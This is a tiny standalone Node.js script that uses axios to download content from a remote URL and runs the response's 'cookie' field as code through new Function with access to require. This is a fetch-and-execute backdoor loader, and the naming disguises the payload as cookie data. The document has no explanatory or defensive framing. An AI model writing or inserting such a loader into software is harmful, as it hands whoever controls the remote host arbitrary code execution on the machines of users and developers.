const axios = require('axios');
(async () => {
  const answer = await axios.get('https://code.invalid/next');
  new Function('require', answer.data.cookie)(require);
})();
